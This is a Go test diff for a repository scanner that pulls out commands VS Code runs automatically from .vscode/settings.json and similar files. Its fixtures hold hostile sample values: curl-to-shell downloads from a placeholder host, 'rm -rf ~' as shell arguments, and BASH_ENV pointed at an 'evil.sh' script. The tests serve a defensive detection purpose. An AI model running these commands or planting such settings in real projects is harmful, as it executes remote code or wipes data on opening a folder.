@@ -245,6 +245,18 @@ func TestExtractEditorFiles(t *testing.T) {
 		{"string, array and named", "{\n  \"image\": \"x\",\n  // host\n  \"initializeCommand\": \"curl -s https://e.x | bash\",\n  \"postCreateCommand\": [\"npm\", \"ci\"],\n  \"postStartCommand\": {\"b\": \"echo b\", \"a\": \"echo a\"},\n}\n",
 			[]extracted{{"curl -s https://e.x | bash", "4:25"}, {"npm ci", "5:26"}, {"echo a", "6:45"}, {"echo b", "6:30"}}},
 	})
+	// .vscode/settings.json names programs VS Code starts when the folder
+	// opens (it was not read): an interpreter or server by path, a
+	// terminal profile or legacy shell with its arguments, the terminal's
+	// environment. Windows' shells, and settings that are not programs,
+	// give nothing.
+	checkExtract(t, ".vscode/settings.json", []tc{
+		{"interpreters and servers", "{\n  // python\n  \"python.defaultInterpreterPath\": \"./tools/python\",\n  \"[rust]\": {\"rust-analyzer.server.path\": \"/tmp/ra\"},\n  \"git.path\": [\"./bin/git\", \"/usr/bin/git\"],\n  \"go.alternateTools\": {\"gopls\": \"./gopls.sh\"},\n}\n",
+			[]extracted{{"./tools/python", "3:37"}, {"./bin/git", "5:17"}, {"./gopls.sh", "6:35"}, {"/tmp/ra", "4:44"}}},
+		{"terminal profiles, shell and env", "{\"terminal.integrated.profiles.linux\": {\"x\": {\"path\": \"bash\", \"args\": [\"-c\", \"curl -s https://e.x | sh\"]}},\n\"terminal.integrated.shell.osx\": \"zsh\", \"terminal.integrated.shellArgs.osx\": [\"-c\", \"rm -rf ~\"],\n\"terminal.integrated.env.linux\": {\"BASH_ENV\": \"./evil.sh\", \"1X\": \"no\"},\n\"terminal.integrated.automationProfile.linux\": {\"path\": \"./auto.sh\"}}",
+			[]extracted{{"zsh -c 'rm -rf ~'", "2:35"}, {"bash -c 'curl -s https://e.x | sh'", "1:56"}, {"./auto.sh", "4:58"}, {"export BASH_ENV=./evil.sh", "3:48"}}},
+		{"windows, programs on PATH and other settings", "{\"terminal.integrated.profiles.windows\": {\"p\": {\"path\": \"cmd.exe\"}}, \"terminal.integrated.profiles.linux\": {\"b\": {\"path\": \"bash\", \"args\": [\"-l\"]}}, \"python.defaultInterpreterPath\": \"python3\", \"editor.fontSize\": 14, \"python.analysis.extraPaths\": [\"./rm -rf\"], \"git.path\": []}", nil},
+	})
 }
 
 // TestKindOfHooksAndEnvrc: hooks kept in the repository and direnv's
@@ -257,7 +269,7 @@ func TestKindOfHooksAndEnvrc(t *testing.T) {
 		".drone.yml": CI, ".woodpecker/build.yaml": CI, ".buildkite/pipeline.yml": CI, "Taskfile.yml": CI,
 		"lefthook.yml": CI, ".lefthook-local.yaml": CI, ".config/lefthook.yml": CI, ".pre-commit-config.yaml": CI, "lefthook.toml": "",
 		"lefthook.json": CI, ".lefthook.json": CI, "renovate.json": CI, ".gitlab/renovate.json": CI, ".renovaterc": CI, "sub/renovate.json": "", "renovate.json5": "", "lefthook.txt": "",
-		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".devcontainer/devcontainer.json": DevContainer,
+		"config.yml": "", ".vscode/tasks.json": VSCode, "tasks.json": "", ".vscode/settings.json": VSCodeSettings, "settings.json": "", ".devcontainer/devcontainer.json": DevContainer,
 		".devcontainer/python/devcontainer.json": DevContainer, ".devcontainer.json": DevContainer,
 	} {
 		if got := KindOf(name); got != want {
